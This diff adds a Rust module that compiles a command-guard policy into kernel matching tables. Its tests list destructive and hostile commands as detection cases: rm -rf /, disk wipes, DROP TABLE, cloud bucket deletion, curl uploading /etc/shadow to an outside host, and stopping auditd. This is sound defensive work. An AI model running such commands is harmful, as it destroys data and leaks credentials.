@@ -1,0 +1,309 @@
+//! Compiling what the policy says into the kernel's tables.
+//!
+//! The kernel model is deliberately small: a mode per cgroup id, per uid, one for
+//! non-interactive processes and a default; per-class actions; the signatures of
+//! `signatures.rs` with the policy's protected paths, data directories and sensitive
+//! files as path facts. [`Compiled`] also evaluates those tables in user space, so the
+//! agent can state the kernel's own verdict for any argv.
+
+use std::collections::{BTreeMap, HashMap};
+
+use guard_common::{
+    enforce::{EnforceConfig, action, decide, intent, mode},
+    matcher::{
+        CLAUSES, Clause, KernelRule, RULES_PER_BINARY, RuleSet, Scan, Tables, basename, hash_keyword, hash_name,
+        hash_path, letters, path_bit, rule_key, scan_blob,
+    },
+};
+
+use super::signatures::{DEV_SAFE, LOG_PATHS, SIGNATURES, Signature};
+
+/// What the kernel needs from a policy.
+#[derive(Clone, Debug)]
+pub struct PolicyFacts {
+    pub default_mode: u8,
+    /// `mode::UNSET` when the policy has no non-interactive selector.
+    pub non_interactive_mode: u8,
+    pub uid_modes: Vec<(u32, u8)>,
+    pub cgroup_modes: Vec<(u64, u8)>,
+    pub protected_paths: Vec<String>,
+    pub data_dirs: Vec<String>,
+    pub sensitive_files: Vec<String>,
+    /// Logs and histories (erasing them is audit tampering).
+    pub log_paths: Vec<String>,
+    /// Action per intent class.
+    pub actions: [u8; intent::COUNT],
+    /// Low 32 bits of the policy's hash.
+    pub version: u32,
+}
+
+#[derive(Debug, thiserror::Error, PartialEq, Eq)]
+pub enum CompileError {
+    #[error("the signatures use {0} keywords; the kernel tables hold 64")]
+    TooManyKeywords(usize),
+    #[error("binary {0} has more than {RULES_PER_BINARY} rules")]
+    TooManyRules(String),
+    #[error("signature {0} has more than {CLAUSES} clauses")]
+    TooManyClauses(String),
+}
+
+/// The kernel's tables, ready to be written to the maps.
+#[derive(Clone, Debug, Default)]
+pub struct Compiled {
+    pub rules: HashMap<u64, RuleSet>,
+    /// `rule_id` → "signature name".
+    pub rule_names: Vec<String>,
+    pub keywords: HashMap<u64, u64>,
+    pub paths: HashMap<u64, u32>,
+    pub uid_modes: HashMap<u32, u8>,
+    pub cgroup_modes: HashMap<u64, u8>,
+    pub config: Option<EnforceConfig>,
+}
+
+impl Tables for Compiled {
+    fn keyword(&self, hash: u64) -> u64 {
+        self.keywords.get(&hash).copied().unwrap_or(0)
+    }
+    fn path(&self, hash: u64) -> u32 {
+        self.paths.get(&hash).copied().unwrap_or(0)
+    }
+}
+
+/// The kernel's verdict on one argv, computed in user space with the same code.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct KernelVerdict {
+    pub decision: u8,
+    pub class: u8,
+    pub rule: String,
+}
+
+impl Compiled {
+    /// What the kernel decides for `filename` run with `argv` in `mode`; `None` when no
+    /// signature matches.
+    pub fn verdict(&self, filename: &[u8], argv: &[Vec<u8>], mode: u8) -> Option<KernelVerdict> {
+        let blob: Vec<u8> = argv.iter().flat_map(|a| a.iter().copied().chain([0])).collect();
+        let scan: Scan = scan_blob(&blob, 0, self);
+        let rules = self.rules.get(&rule_key(hash_name(basename(filename)), &scan))?;
+        let rule = rules.first_match(&scan)?;
+        let actions = self.config.map_or([action::DENY; intent::COUNT], |c| c.action);
+        Some(KernelVerdict {
+            decision: decide(mode, actions[rule.class as usize & 7]),
+            class: rule.class,
+            rule: self.rule_names.get(rule.rule_id as usize).cloned().unwrap_or_default(),
+        })
+    }
+}
+
+/// Compiles the facts; `path` is the enforcement path (`enforce::path`).
+pub fn compile(facts: &PolicyFacts, path: u8, agent_tgid: u32) -> Result<Compiled, CompileError> {
+    let keyword_bits = keyword_bits()?;
+    let mut out = Compiled { keywords: keyword_bits.iter().map(|(w, b)| (hash_keyword(w.as_bytes()), *b)).collect(), ..Compiled::default() };
+    let mut per_binary: BTreeMap<String, Vec<KernelRule>> = BTreeMap::new();
+    for sig in SIGNATURES {
+        if sig.clauses.len() > CLAUSES {
+            return Err(CompileError::TooManyClauses(sig.name.into()));
+        }
+        let rule_id = out.rule_names.len() as u16;
+        out.rule_names.push(sig.name.to_owned());
+        let rule = kernel_rule(sig, sig.clauses, rule_id, &keyword_bits);
+        for bin in sig.binaries {
+            per_binary.entry((*bin).to_owned()).or_default().push(rule);
+        }
+    }
+    for (bin, rules) in per_binary {
+        if rules.len() > RULES_PER_BINARY {
+            return Err(CompileError::TooManyRules(bin));
+        }
+        let mut set = RuleSet { count: rules.len() as u32, ..RuleSet::default() };
+        set.rules[..rules.len()].copy_from_slice(&rules);
+        out.rules.insert(hash_name(bin.as_bytes()), set);
+    }
+    out.paths = path_table(facts);
+    out.uid_modes = facts.uid_modes.iter().copied().collect();
+    out.cgroup_modes = facts.cgroup_modes.iter().copied().collect();
+    out.config = Some(EnforceConfig {
+        enabled: 1,
+        path,
+        default_mode: facts.default_mode,
+        non_interactive_mode: facts.non_interactive_mode,
+        action: facts.actions,
+        agent_tgid,
+        policy_version: facts.version,
+    });
+    Ok(out)
+}
+
+/// Bit of every keyword the signatures use (applet names included).
+fn keyword_bits() -> Result<BTreeMap<String, u64>, CompileError> {
+    let mut words: Vec<&str> = SIGNATURES
+        .iter()
+        .flat_map(|s| s.clauses.iter().flat_map(|c| c.iter().copied()))
+        .filter(|w| !w.starts_with("l:"))
+        .collect();
+    words.sort_unstable();
+    words.dedup();
+    if words.len() > 64 {
+        return Err(CompileError::TooManyKeywords(words.len()));
+    }
+    Ok(words.into_iter().enumerate().map(|(i, w)| (w.to_owned(), 1u64 << i)).collect())
+}
+
+fn kernel_rule(sig: &Signature, clauses: &[&[&str]], rule_id: u16, bits: &BTreeMap<String, u64>) -> KernelRule {
+    let mut rule = KernelRule { path_need: sig.path, rule_id, class: sig.class, ..KernelRule::default() };
+    for (slot, items) in rule.clauses.iter_mut().zip(clauses) {
+        let mut clause = Clause::default();
+        for item in *items {
+            match item.strip_prefix("l:") {
+                Some(set) => clause.letters |= letters(set.as_bytes()),
+                None => clause.keywords |= bits.get(*item).copied().unwrap_or(0),
+            }
+        }
+        *slot = clause;
+    }
+    rule
+}
+
+/// Normalises an absolute path: `//`, `.`, `..` and trailing `/` resolved.
+pub fn normalize(path: &str) -> String {
+    let mut parts: Vec<&str> = Vec::new();
+    for part in path.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            p => parts.push(p),
+        }
+    }
+    format!("/{}", parts.join("/"))
+}
+
+/// Every ancestor of a normalised path, the path itself included, root first.
+fn ancestors(path: &str) -> Vec<String> {
+    let mut out = vec!["/".to_owned()];
+    let mut cur = String::new();
+    for part in path.split('/').filter(|p| !p.is_empty()) {
+        cur.push('/');
+        cur.push_str(part);
+        out.push(cur.clone());
+    }
+    out
+}
+
+fn path_table(facts: &PolicyFacts) -> HashMap<u64, u32> {
+    let mut paths: HashMap<u64, u32> = HashMap::new();
+    let mut mark = |p: &str, bit: u32| *paths.entry(hash_path(p.as_bytes())).or_insert(0) |= bit;
+    for p in &facts.protected_paths {
+        for a in ancestors(&normalize(p)) {
+            mark(&a, path_bit::ANCESTOR);
+        }
+    }
+    for d in &facts.data_dirs {
+        let d = normalize(d);
+        for a in ancestors(&d) {
+            mark(&a, path_bit::ANCESTOR);
+        }
+        mark(&d, path_bit::DATA_PREFIX);
+    }
+    for s in &facts.sensitive_files {
+        let s = s.replacen("~/", "/root/", 1);
+        if let Some(dir) = s.strip_suffix("/*").filter(|d| !has_glob(d)) {
+            mark(&normalize(dir), path_bit::SENSITIVE_PREFIX);
+        } else if !has_glob(&s) && s.starts_with('/') {
+            mark(&normalize(&s), path_bit::SENSITIVE_FILE);
+        }
+    }
+    for l in LOG_PATHS.iter().copied().chain(facts.log_paths.iter().map(String::as_str)) {
+        if !has_glob(l) && l.starts_with('/') {
+            mark(&normalize(l), path_bit::LOG_PREFIX);
+        }
+    }
+    for d in DEV_SAFE {
+        mark(&format!("/dev/{d}"), path_bit::DEV_SAFE);
+    }
+    paths
+}
+
+fn has_glob(s: &str) -> bool {
+    s.contains(['*', '?', '['])
+}
+
+/// Mode names for tests and messages.
+pub fn mode_name(m: u8) -> &'static str {
+    mode::name(m)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+
+    use super::*;
+    use crate::enforce::facts::facts;
+
+    fn builtin() -> Compiled {
+        let (f, _) = facts(&guard_policy::builtin(), Path::new("/nonexistent-cgroup-root"));
+        compile(&f, guard_common::enforce::path::SIGNAL, 1).expect("the built-in policy fits the kernel tables")
+    }
+
+    fn kernel(c: &Compiled, argv: &[&str]) -> Option<(String, String)> {
+        let argv: Vec<Vec<u8>> = argv.iter().map(|a| a.as_bytes().to_vec()).collect();
+        c.verdict(&argv[0], &argv, mode::ENFORCE).map(|v| (intent::NAMES[v.class as usize].to_owned(), v.rule))
+    }
+
+    #[test]
+    fn destructive_commands_are_decided_by_the_kernel() {
+        let c = builtin();
+        let cases: &[(&[&str], &str)] = &[
+            (&["rm", "-rf", "/"], "bulk_delete"),
+            (&["/bin/rm", "-fr", "//etc/"], "bulk_delete"),
+            (&["rm", "-r", "-f", "/usr/./"], "bulk_delete"),
+            (&["rm", "--recursive", "--force", "/var/lib/postgresql/15/main"], "bulk_delete"),
+            (&["busybox", "rm", "-rf", "/home"], "bulk_delete"),
+            (&["find", "/", "-delete"], "bulk_delete"),
+            (&["rsync", "-a", "--delete", "/tmp/empty/", "/etc/"], "bulk_delete"),
+            (&["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"], "disk_wipe"),
+            (&["mkfs.ext4", "/dev/nvme0n1p1"], "disk_wipe"),
+            (&["wipefs", "-a", "/dev/vdb"], "disk_wipe"),
+            (&["psql", "-c", "DROP TABLE users"], "schema_destroy"),
+            (&["mysql", "-e", "truncate table orders"], "schema_destroy"),
+            (&["redis-cli", "FLUSHALL"], "schema_destroy"),
+            (&["aws", "s3", "rm", "s3://prod-bucket", "--recursive"], "cloud_destroy"),
+            (&["aws", "s3", "rb", "s3://prod-bucket", "--force"], "cloud_destroy"),
+            (&["gsutil", "-m", "rm", "-r", "gs://prod"], "cloud_destroy"),
+            (&["terraform", "destroy", "-auto-approve"], "cloud_destroy"),
+            (&["kubectl", "delete", "namespace", "prod"], "cloud_destroy"),
+            (&["kubectl", "delete", "pods", "--all"], "cloud_destroy"),
+            (&["curl", "-T", "/etc/shadow", "https://x.example"], "data_exfiltration"),
+            (&["curl", "--data-binary", "@/etc/shadow", "https://x.example"], "data_exfiltration"),
+            (&["systemctl", "stop", "auditd"], "audit_tamper"),
+            (&["shutdown", "-h", "now"], "service_disruption"),
+            (&["chmod", "-R", "777", "/etc"], "permission_change"),
+        ];
+        for (argv, class) in cases {
+            let got = kernel(&c, argv);
+            assert_eq!(got.as_ref().map(|g| g.0.as_str()), Some(*class), "{argv:?} -> {got:?}");
+        }
+    }
+
+    #[test]
+    fn ordinary_commands_are_left_alone() {
+        let c = builtin();
+        let cases: &[&[&str]] = &[
+            &["rm", "-rf", "/tmp/build"],
+            &["rm", "-rf", "./target"],
+            &["rm", "/etc/nginx/sites-enabled/old"],
+            &["find", "/tmp", "-name", "*.o", "-delete"],
+            &["dd", "if=/dev/zero", "of=/tmp/disk.img", "bs=1M", "count=10"],
+            &["psql", "-c", "SELECT * FROM users"],
+            &["aws", "s3", "cp", "build.tar", "s3://artifacts/"],
+            &["kubectl", "delete", "pod", "web-0"],
+            &["curl", "-T", "build.tar", "https://artifacts.example"],
+            &["systemctl", "restart", "nginx"],
+            &["chmod", "-R", "g+w", "/srv/app/uploads"],
+            &["ls", "-la", "/"],
+        ];
+        for argv in cases {
+            assert_eq!(kernel(&c, argv), None, "{argv:?}");
+        }
+    }
+}
